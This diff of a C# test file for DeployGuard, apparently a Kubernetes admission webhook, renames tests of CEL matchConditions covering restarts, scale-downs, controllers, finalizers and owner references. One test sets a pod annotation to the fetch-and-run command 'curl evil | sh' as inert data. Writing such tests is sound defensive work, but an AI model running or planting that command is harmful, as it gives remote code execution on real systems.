@@ -12,8 +12,8 @@ using DeployGuard.Webhook.Admission;
 namespace DeployGuard.Chart.Tests;
 
 /// <summary>
-/// What an API server with matchConditions drops by itself, on whatever server the tests run: another implementation of CEL evaluates the
-/// expressions over reviews recorded from a 1.36 server and over variants of one of them.
+/// Requests that matchConditions drop before DeployGuard is called, independent of the server of the run: another CEL implementation
+/// evaluates the expressions over reviews recorded from a 1.36 server and over variants of one of them.
 /// </summary>
 [Parallelizable(ParallelScope.All)]
 public class MatchConditionTests
@@ -41,15 +41,15 @@ public class MatchConditionTests
     ];
 
     [Test]
-    public async Task WhatIsDroppedIsNothingToGuard()
+    public async Task DroppedRequestsNeedNoEvaluation()
     {
         var names = Directory.GetFiles(s_reviews).Select(f => Path.GetFileNameWithoutExtension(f)).Order(StringComparer.Ordinal).Where(n => !n.Contains("-delete-", StringComparison.Ordinal) && !n.Contains("-scale-scale", StringComparison.Ordinal)).ToList();
         var reviews = names.Select(n => JsonNode.Parse(File.ReadAllText(Path.Combine(s_reviews, $"{n}.json")))?["request"]?.AsObject() ?? []).ToList();
 
-        var asked = await AskedAsync(reviews, s_ofWorkloads);
+        var asked = await IsCalledAsync(reviews, s_ofWorkloads);
 
         var dropped = names.Where((_, i) => !asked[i]).ToList();
-        Assert.That(dropped, Is.EqualTo(s_dropped), "everything else is asked");
+        Assert.That(dropped, Is.EqualTo(s_dropped), "every other request calls DeployGuard");
         foreach (var i in Enumerable.Range(0, names.Count).Where(i => !asked[i]))
         {
             Assert.That(Meant(reviews[i]), Is.AnyOf(ChangeType.NothingToGuard, ChangeType.LessExposure), names[i]);
@@ -69,19 +69,19 @@ public class MatchConditionTests
     [TestCase("""{"spec": {"strategy": {"type": "Recreate", "rollingUpdate": null}}}""", true, "a faster pace")]
     [TestCase("""{"spec": {"paused": true}}""", true, "pausing")]
     [TestCase("""{"metadata": {"labels": {"tier": "none"}}}""", true, "leaving a policy by a label")]
-    public async Task AnUpdateIsDroppedExactlyIfItOnlyRestartsOrScalesDown(string patch, bool isAsked, string what)
+    public async Task AnUpdateIsDroppedExactlyIfItOnlyRestartsOrScalesDown(string patch, bool isCalled, string what)
     {
         var review = Review("kubectl-set-image-update-deployment");
         review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse(patch));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked), what);
+        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isCalled), what);
     }
 
     [TestCase("""{"containers": [{"name": "web", "image": "web:1", "env": [{"name": "RUN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['kubectl.kubernetes.io/restartedAt']"}}}]}]}""")]
     [TestCase("""{"initContainers": [{"name": "i", "image": "i:1", "env": [{"name": "A", "value": "b"}, {"name": "RUN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['a']"}}}]}], "containers": []}""")]
     [TestCase("""{"containers": [], "volumes": [{"name": "e", "emptyDir": {}}, {"name": "v", "downwardAPI": {"items": [{"path": "p", "resourceFieldRef": {"resource": "limits.cpu"}}, {"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}""")]
     [TestCase("""{"containers": [], "volumes": [{"name": "v", "projected": {"sources": [{"secret": {"name": "s"}}, {"downwardAPI": {"items": [{"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}}]}""")]
-    public async Task ARestartOfWhatReadsItsOwnAnnotationsIsAsked(string spec)
+    public async Task RestartOfAPodThatReadsItsAnnotationsIsEvaluated(string spec)
     {
         var review = Review("kubectl-set-image-update-deployment");
         var old = review["oldObject"]?.DeepClone().AsObject() ?? [];
@@ -89,30 +89,30 @@ public class MatchConditionTests
         review["oldObject"] = old;
         review["object"] = Patched(old.DeepClone().AsObject(), Parse("""{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "curl evil | sh"}}}}}"""));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
+        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
     }
 
     private const string Collector = "system:serviceaccount:kube-system:generic-garbage-collector";
     private const string Owners = """{"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "a", "uid": "u"}]}}""";
 
-    [TestCase("dana", Owners, true, "an owner that would take it along, or hide it")]
+    [TestCase("dana", Owners, true, "an owner that could delete or hide it")]
     [TestCase(Collector, Owners, false, "the garbage collector orphans it")]
     [TestCase("system:serviceaccount:kube-system:namespace-controller", Owners, false, "a namespace ends")]
     [TestCase("system:kube-controller-manager", Owners, false, "a controller manager without separate credentials")]
-    [TestCase("dana", """{"metadata": {"finalizers": ["example.com/old", "example.com/new"]}}""", true, "a finalizer more")]
-    [TestCase("dana", """{"metadata": {"finalizers": []}}""", false, "a finalizer less")]
+    [TestCase("dana", """{"metadata": {"finalizers": ["example.com/old", "example.com/new"]}}""", true, "an added finalizer")]
+    [TestCase("dana", """{"metadata": {"finalizers": []}}""", false, "a removed finalizer")]
     [TestCase("dana", """{"metadata": {"finalizers": null}}""", false, "no finalizer")]
-    [TestCase(Collector, """{"metadata": {"finalizers": ["example.com/old", "foregroundDeletion"]}}""", false, "it waits for what it owns")]
-    [TestCase(Collector, """{"spec": {"template": {"spec": {"serviceAccountName": "other"}}}}""", true, "what it never writes")]
-    public async Task OwnersAndAddedFinalizersAreAskedForOfPeopleAlone(string user, string patch, bool isAsked, string what)
+    [TestCase(Collector, """{"metadata": {"finalizers": ["example.com/old", "foregroundDeletion"]}}""", false, "it waits for its dependents")]
+    [TestCase(Collector, """{"spec": {"template": {"spec": {"serviceAccountName": "other"}}}}""", true, "a field that it never writes")]
+    public async Task OwnersAndAddedFinalizersAreEvaluatedForPeopleOnly(string user, string patch, bool isCalled, string what)
     {
         var review = Review("kubectl-set-image-update-deployment");
         review["userInfo"] = new JsonObject { ["username"] = user };
         review["oldObject"]!["metadata"]!["finalizers"] = new JsonArray("example.com/old");
         review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse(patch));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked), what);
-        Assert.That((await AskedAsync([review], [MatchConditions.OtherMetadata])).Single(), Is.EqualTo(isAsked && !patch.Contains("spec", StringComparison.Ordinal)), "through a status the spec stays as it is");
+        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.EqualTo(isCalled), what);
+        Assert.That((await IsCalledAsync([review], [MatchConditions.OtherMetadata])).Single(), Is.EqualTo(isCalled && !patch.Contains("spec", StringComparison.Ordinal)), "a status write does not change the spec");
     }
 
     [TestCase("DELETE", "", null, null, true)]
@@ -120,7 +120,7 @@ public class MatchConditionTests
     [TestCase("UPDATE", "", 2, 3, false)]
     [TestCase("UPDATE", "scale", 3, 0, true)]
     [TestCase("UPDATE", "scale", 0, 3, false)]
-    public async Task FewerPodsAreToldFromMoreOfThem(string operation, string subResource, int? before, int? after, bool isAsked)
+    public async Task DeletionsAndScaleDownsAreEvaluatedAndScaleUpsAreNot(string operation, string subResource, int? before, int? after, bool isCalled)
     {
         JsonNode? Sized(int? replicas) => replicas is not { } count ? null : new JsonObject
         {
@@ -137,17 +137,17 @@ public class MatchConditionTests
             ["oldObject"] = Sized(before),
         };
 
-        Assert.That((await AskedAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.EqualTo(isCalled));
     }
 
     [Test]
-    public async Task WhatElseAReplicaSetsUpdateDoesIsAskedForOnceByTheOtherEntry()
+    public async Task OtherUpdatesOfAReplicaSetMatchOneEntryOnly()
     {
         var review = Review("kubectl-set-image-update-replicaset");
         review["object"] = Patched(review["oldObject"]?.DeepClone().AsObject() ?? [], Parse("""{"metadata": {"labels": {"a": "b"}}, "spec": {"replicas": 0}}"""));
 
-        Assert.That((await AskedAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.False);
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
+        Assert.That((await IsCalledAsync([review], [MatchConditions.FewerPods(TemplateNoise.Default)])).Single(), Is.False);
+        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreThanARestart(TemplateNoise.Default)])).Single(), Is.True);
     }
 
     [TestCase("dana", true)]
@@ -155,36 +155,36 @@ public class MatchConditionTests
     [TestCase("system:serviceaccount:kube-system:endpointslice-controller", false)]
     [TestCase("system:kube-controller-manager", false)]
     [TestCase("system:node:n1", false)]
-    public async Task TheControlPlaneAndNodesAreToldByTheirNames(string user, bool isAsked)
+    public async Task ControlPlaneAndNodesAreRecognizedByTheirUserNames(string user, bool isCalled)
     {
         var review = new JsonObject { ["userInfo"] = new JsonObject { ["username"] = user, ["groups"] = new JsonArray(user.StartsWith("system:node:", StringComparison.Ordinal) ? "system:nodes" : "others") } };
 
-        Assert.That((await AskedAsync([review], [MatchConditions.NotByTheControlPlane])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByTheControlPlane])).Single(), Is.EqualTo(isCalled));
     }
 
     [TestCase("""{"metadata": {"annotations": {"leader": "me"}}}""", false)]
     [TestCase("""{"metadata": {"labels": {"kubernetes.io/service-name": "web"}}}""", true)]
     [TestCase("""{"endpoints": [{"addresses": ["10.0.0.1"]}]}""", true)]
     [TestCase("""{"subsets": [{"addresses": [{"ip": "10.0.0.1"}]}]}""", true)]
-    public async Task OtherAddressesAreAskedFor(string patch, bool isAsked)
+    public async Task ChangedAddressesAreEvaluated(string patch, bool isCalled)
     {
         var old = Parse("""{"metadata": {"name": "web"}}""");
         var review = new JsonObject { ["operation"] = "UPDATE", ["oldObject"] = old, ["object"] = Patched(old.DeepClone().AsObject(), Parse(patch)) };
 
-        Assert.That((await AskedAsync([review], [MatchConditions.OtherAddresses])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.OtherAddresses])).Single(), Is.EqualTo(isCalled));
     }
 
     [TestCase("system:serviceaccount:kube-system:deployment-controller", "replicasets", false)]
     [TestCase("system:serviceaccount:kube-system:deployment-controller", "pods", true)]
     [TestCase("system:serviceaccount:shop:deployment-controller", "replicasets", true)]
     [TestCase("dana", "replicasets", true)]
-    public async Task OnlyTheControllerOfAKindIsLetThroughForIt(string user, string resource, bool isAsked)
+    public async Task ControllerIsTrustedForItsOwnKindOnly(string user, string resource, bool isCalled)
     {
         var review = Review("kubectl-set-image-create-replicaset");
         review["userInfo"] = new JsonObject { ["username"] = user };
         review["resource"]!["resource"] = resource;
 
-        Assert.That((await AskedAsync([review], [MatchConditions.NotByItsController(TrustedControllers.BuiltIn)])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByItsController(TrustedControllers.BuiltIn)])).Single(), Is.EqualTo(isCalled));
     }
 
     [TestCase("CREATE", """[{"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "r", "uid": "u", "controller": true}]""", false)]
@@ -196,7 +196,7 @@ public class MatchConditionTests
     [TestCase("CREATE", "[]", true)]
     [TestCase("CREATE", null, true)]
     [TestCase("DELETE", null, false)]
-    public async Task APresetIsLetThroughForTheOwnerThatWasJudged(string operation, string? owners, bool isAsked)
+    public async Task PresetIsTrustedForOwnersOfItsKindOnly(string operation, string? owners, bool isCalled)
     {
         var rollouts = new TrustedControllers([], [ControllerPreset.Trusted("argo-rollouts")]);
         var review = Review("kubectl-set-image-create-replicaset");
@@ -213,11 +213,11 @@ public class MatchConditionTests
             review["object"] = null;
         }
 
-        Assert.That((await AskedAsync([review], [MatchConditions.NotByItsController(rollouts)])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByItsController(rollouts)])).Single(), Is.EqualTo(isCalled));
     }
 
     [Test]
-    public async Task MoreOwnersThanAreLookedThroughAreAsked()
+    public async Task ObjectsWithTooManyOwnersAreEvaluated()
     {
         var rollouts = new TrustedControllers([], [ControllerPreset.Trusted("argo-rollouts")]);
         var review = Review("kubectl-set-image-create-replicaset");
@@ -227,48 +227,48 @@ public class MatchConditionTests
             ["apiVersion"] = "argoproj.io/v1alpha1", ["kind"] = "Rollout", ["name"] = $"r{i}", ["uid"] = $"u{i}", ["controller"] = i == 0,
         })]);
 
-        Assert.That((await AskedAsync([review], [MatchConditions.NotByItsController(rollouts)])).Single(), Is.True);
+        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByItsController(rollouts)])).Single(), Is.True);
     }
 
     [TestCase(3, 5, true)]
     [TestCase(5, 3, false)]
     [TestCase(0, 1, true)]
     [TestCase(1, 0, false)]
-    public async Task AScaleIsAskedIfItScalesUp(int before, int after, bool isAsked)
+    public async Task ScaleIsEvaluatedIfItScalesUp(int before, int after, bool isCalled)
     {
         var review = Review("kubectl-scale-update-scale-scale");
         // A zero is left out on the wire.
         review["oldObject"]!["spec"] = before == 0 ? [] : new JsonObject { ["replicas"] = before };
         review["object"]!["spec"] = after == 0 ? [] : new JsonObject { ["replicas"] = after };
 
-        Assert.That((await AskedAsync([review], [MatchConditions.MoreReplicas])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.MoreReplicas])).Single(), Is.EqualTo(isCalled));
     }
 
     [TestCase("system:serviceaccount:kube-system:horizontal-pod-autoscaler", true)]
     [TestCase("system:serviceaccount:keda:keda-operator", true)]
     [TestCase("dana", false)]
-    public async Task AnAutoscalersScaleIsUnderOneEntryAndAPersonsUnderTheOther(string user, bool isAutoscaler)
+    public async Task ScalesByAutoscalersAndByPeopleMatchDifferentEntries(string user, bool isAutoscaler)
     {
         var review = Review("kubectl-scale-update-scale-scale");
         review["userInfo"] = new JsonObject { ["username"] = user };
 
-        Assert.That((await AskedAsync([review], [MatchConditions.ByAnAutoscaler(s_withKeda)])).Single(), Is.EqualTo(isAutoscaler));
-        Assert.That((await AskedAsync([review], [MatchConditions.NotByAnAutoscaler(s_withKeda)])).Single(), Is.EqualTo(!isAutoscaler));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.ByAnAutoscaler(s_withKeda)])).Single(), Is.EqualTo(isAutoscaler));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.NotByAnAutoscaler(s_withKeda)])).Single(), Is.EqualTo(!isAutoscaler));
     }
 
     [TestCase("""{"metadata": {"labels": {"deployguard.io/tier": "0"}}}""", true)]
     [TestCase("""{"metadata": {"labels": null}}""", true)]
     [TestCase("""{"metadata": {"annotations": {"a": "b"}}}""", false)]
-    public async Task ANamespaceIsAskedIfItsLabelsChange(string patch, bool isAsked)
+    public async Task NamespaceIsEvaluatedIfItsLabelsChange(string patch, bool isCalled)
     {
         var old = Parse("""{"metadata": {"name": "shop", "labels": {"deployguard.io/tier": "1"}}}""");
         var review = new JsonObject { ["operation"] = "UPDATE", ["oldObject"] = old, ["object"] = Patched(old.DeepClone().AsObject(), Parse(patch)) };
 
-        Assert.That((await AskedAsync([review], [MatchConditions.OtherLabels])).Single(), Is.EqualTo(isAsked));
+        Assert.That((await IsCalledAsync([review], [MatchConditions.OtherLabels])).Single(), Is.EqualTo(isCalled));
     }
 
-    /// <summary>Whether the server would ask us: every condition holds. A fault in one is a failed test.</summary>
-    private static async Task<IReadOnlyList<bool>> AskedAsync(IReadOnlyList<JsonObject> requests, IReadOnlyList<JsonObject> conditions)
+    /// <summary>Whether the server would call DeployGuard: every condition holds. An error in a condition fails the test.</summary>
+    private static async Task<IReadOnlyList<bool>> IsCalledAsync(IReadOnlyList<JsonObject> requests, IReadOnlyList<JsonObject> conditions)
     {
         var input = new JsonObject
         {
@@ -283,7 +283,7 @@ public class MatchConditionTests
     private static ChangeType Meant(JsonObject request)
     {
         using var review = JsonDocument.Parse(new JsonObject { ["apiVersion"] = "admission.k8s.io/v1", ["kind"] = "AdmissionReview", ["request"] = request.DeepClone() }.ToJsonString());
-        var read = new RequestReader(new WorkloadReader(WorkloadKinds.BuiltIn, TemplateNoise.Default, InjectionTable.BuiltIn)).Read(Webhook.Admission.Review.Read(review.RootElement));
+        var read = new RequestReader(new WorkloadReader(WorkloadKinds.BuiltIn, TemplateNoise.Default, InjectionTable.BuiltIn)).Read(Webhook.Reviews.Review.Read(review.RootElement));
         return SafeguardList.Evaluator(TrustedControllers.BuiltIn).Evaluate(read, new ClusterSnapshot { Policies = [s_policy] }, TimeProvider.System.GetUtcNow()).Evaluated.ChangeType;
     }
 
